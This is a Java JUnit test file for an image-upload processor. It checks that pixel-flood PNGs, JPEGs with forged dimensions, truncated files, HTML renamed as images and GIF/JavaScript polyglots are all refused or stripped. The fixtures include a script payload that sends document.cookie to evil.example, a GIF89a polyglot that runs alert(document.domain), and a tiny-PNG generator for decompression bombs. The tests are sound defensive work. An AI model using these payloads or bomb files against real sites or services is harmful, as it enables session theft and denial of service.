package cn.pingxuan.media.image;

import cn.pingxuan.media.Derivative;
import cn.pingxuan.media.MediaLimits;
import cn.pingxuan.media.MediaRejectedException;
import cn.pingxuan.media.MediaWork;
import cn.pingxuan.media.ProcessedMedia;
import cn.pingxuan.media.ProgressListener;
import cn.pingxuan.support.TickingClock;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.ByteArrayOutputStream;
import java.lang.management.ManagementFactory;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.util.Arrays;
import java.util.zip.CRC32;
import java.util.zip.Deflater;

import static cn.pingxuan.media.image.Processing.process;
import static cn.pingxuan.media.image.Processing.processFile;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** Hostile and broken files end in a clear refusal, quickly and without a big heap; the worker stays healthy. */
class ImageSafetyTest {

    private static final String BROKEN = "图片文件已损坏或不完整，无法读取，请重新导出后上传";

    @TempDir
    Path dir;

    @Test
    void aPixelFloodPngIsRefusedFromItsHeaderWithoutDecoding() throws Exception {
        // 20000×20000 RGB would need 1.6 GB as TYPE_INT_RGB; the file is a few hundred bytes
        byte[] flood = png(20_000, 20_000);
        process(dir, "warm-up.png", TestPictures.encode(TestPictures.quadrants(8, 8), "png")); // ImageIO's plugins load once
        var threads = (com.sun.management.ThreadMXBean) ManagementFactory.getThreadMXBean();
        long allocatedBefore = threads.getCurrentThreadAllocatedBytes();
        long started = System.nanoTime();

        assertThatThrownBy(() -> process(dir, "flood.png", flood))
                .isInstanceOf(MediaRejectedException.class)
                .hasMessage("图片尺寸 20000×20000 过大（超过 1 亿像素），请缩小后重新上传");

        assertThat(Duration.ofNanos(System.nanoTime() - started)).isLessThan(Duration.ofSeconds(2));
        assertThat(threads.getCurrentThreadAllocatedBytes() - allocatedBefore).isLessThan(32L << 20);
        assertThat(flood.length).isLessThan(1024);
    }

    @Test
    void aJpegDeclaringHugeDimensionsIsRefusedFromItsHeader() {
        byte[] jpeg = TestPictures.jpeg(TestPictures.quadrants(64, 48), 0.9f);
        int sof = indexOf(jpeg, new byte[] {(byte) 0xFF, (byte) 0xC0});
        ByteBuffer.wrap(jpeg, sof + 5, 4).putShort((short) 60_000).putShort((short) 50_000);

        assertThatThrownBy(() -> process(dir, "huge.jpg", jpeg))
                .isInstanceOf(MediaRejectedException.class)
                .hasMessage("图片尺寸 50000×60000 过大（超过 1 亿像素），请缩小后重新上传");
    }

    @Test
    void aTruncatedJpegIsRefusedRatherThanShownHalfGrey() {
        byte[] photo = TestPictures.jpeg(TestPictures.photo(1200, 900, 3), 0.9f);

        assertThatThrownBy(() -> process(dir, "cut.jpg", Arrays.copyOf(photo, photo.length * 6 / 10)))
                .isInstanceOf(MediaRejectedException.class)
                .hasMessage(BROKEN);
    }

    @Test
    void aTruncatedHeicIsRefused() throws Exception {
        Path heic = HeifFile.grid(256).write(TestPictures.photo(1000, 700, 4), dir.resolve("whole.heic"));
        byte[] whole = Files.readAllBytes(heic);

        assertThatThrownBy(() -> process(dir, "cut.heic", Arrays.copyOf(whole, whole.length * 7 / 10)))
                .isInstanceOf(MediaRejectedException.class);
    }

    @Test
    void aTruncatedWebpIsRefused() throws Exception {
        Path png = Files.write(dir.resolve("source.png"), TestPictures.encode(TestPictures.photo(800, 600, 5), "png"));
        Path webp = dir.resolve("whole.webp");
        BundledFfmpeg.run("-i", png.toString(), "-c:v", "libwebp", webp.toString());
        byte[] whole = Files.readAllBytes(webp);

        assertThatThrownBy(() -> process(dir, "cut.webp", Arrays.copyOf(whole, whole.length * 6 / 10)))
                .isInstanceOf(MediaRejectedException.class)
                .hasMessage(BROKEN);
    }

    @Test
    void anEmptyFileIsRefused() {
        assertThatThrownBy(() -> process(dir, "empty.jpg", new byte[0]))
                .isInstanceOf(MediaRejectedException.class)
                .hasMessage("文件是空的，请重新上传");
    }

    @Test
    void aWebPageRenamedToJpgIsRefused() {
        byte[] page = "<!DOCTYPE html><html><body><script>alert('hi')</script></body></html>".getBytes(StandardCharsets.UTF_8);

        assertThatThrownBy(() -> process(dir, "photo.jpg", page))
                .isInstanceOf(MediaRejectedException.class)
                .hasMessageContaining("网页（HTML）")
                .hasMessageContaining("JPEG、PNG、WebP、GIF、TIFF、BMP 或 HEIC");
    }

    @Test
    void aGifCarryingAWebPageIsReencodedFromPixelsOnly() throws Exception {
        String payload = "<script>fetch('https://evil.example/steal?c='+document.cookie)</script>";
        byte[] gif = TestPictures.encode(TestPictures.quadrants(300, 200), "gif");
        byte[] polyglot = TestPictures.concat(gif, payload.getBytes(StandardCharsets.UTF_8));

        ProcessedMedia media = process(dir, "funny.gif", polyglot);

        assertThat(media.details()).startsWith("GIF 300×200");
        for (Derivative derivative : media.derivatives()) {
            assertThat(Processing.contains(derivative.file(), "<script")).isFalse();
            assertThat(Processing.contains(derivative.file(), "evil.example")).isFalse();
        }
    }

    @Test
    void aGifHeaderThatIsReallyJavaScriptIsRefused() {
        // "GIF89a/*" starts both a GIF and a JS comment: browsers that sniff it as script run the rest
        byte[] polyglot = "GIF89a/*\u0000\u0000*/=1;alert(document.domain);//<html><script>alert(1)</script>"
                .getBytes(StandardCharsets.ISO_8859_1);

        assertThatThrownBy(() -> process(dir, "smile.gif", polyglot)).isInstanceOf(MediaRejectedException.class);
    }

    @Test
    void aDecodeThatOutlivesTheDeadlineStops() throws Exception {
        Path original = Files.write(dir.resolve("big.jpg"), TestPictures.jpeg(TestPictures.photo(3000, 2000, 6), 0.9f));
        Instant start = Instant.now();
        // every look at the clock costs a second; the job has ten
        Clock slowWorld = new TickingClock(start, Duration.ofSeconds(1));
        MediaWork work = new MediaWork(Files.createDirectories(dir.resolve("work")), MediaLimits.NONE,
                ProgressListener.IGNORE, start.plusSeconds(10), slowWorld);

        assertThatThrownBy(() -> Processing.processor().process(original, work))
                .isInstanceOf(MediaWork.MediaTimeLimitException.class);
    }

    @Test
    void theProcessorStaysUsableAfterRefusals() throws Exception {
        for (int i = 0; i < 3; i++) {
            int attempt = i;
            assertThatThrownBy(() -> process(dir, "flood" + attempt + ".png", png(30_000, 30_000)))
                    .isInstanceOf(MediaRejectedException.class);
        }
        Path fine = Files.write(dir.resolve("fine.png"), TestPictures.encode(TestPictures.quadrants(400, 300), "png"));

        assertThat(processFile(dir, fine, MediaLimits.NONE).width()).isEqualTo(400);
    }

    /** A PNG declaring any size, with one compressed row of data: valid up to where the data runs out. */
    private static byte[] png(int width, int height) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'});
        ByteBuffer header = ByteBuffer.allocate(13).putInt(width).putInt(height).put((byte) 8).put((byte) 2)
                .put((byte) 0).put((byte) 0).put((byte) 0);
        chunk(out, "IHDR", header.array());
        Deflater deflater = new Deflater();
        deflater.setInput(new byte[1 + width * 3]);
        deflater.finish();
        byte[] compressed = new byte[1024];
        chunk(out, "IDAT", Arrays.copyOf(compressed, deflater.deflate(compressed)));
        chunk(out, "IEND", new byte[0]);
        return out.toByteArray();
    }

    private static void chunk(ByteArrayOutputStream out, String type, byte[] data) {
        byte[] name = type.getBytes(StandardCharsets.US_ASCII);
        CRC32 crc = new CRC32();
        crc.update(name);
        crc.update(data);
        out.writeBytes(ByteBuffer.allocate(4).putInt(data.length).array());
        out.writeBytes(name);
        out.writeBytes(data);
        out.writeBytes(ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
    }

    private static int indexOf(byte[] data, byte[] pattern) {
        for (int i = 0; i + pattern.length <= data.length; i++) {
            if (Arrays.equals(data, i, i + pattern.length, pattern, 0, pattern.length)) {
                return i;
            }
        }
        return -1;
    }
}
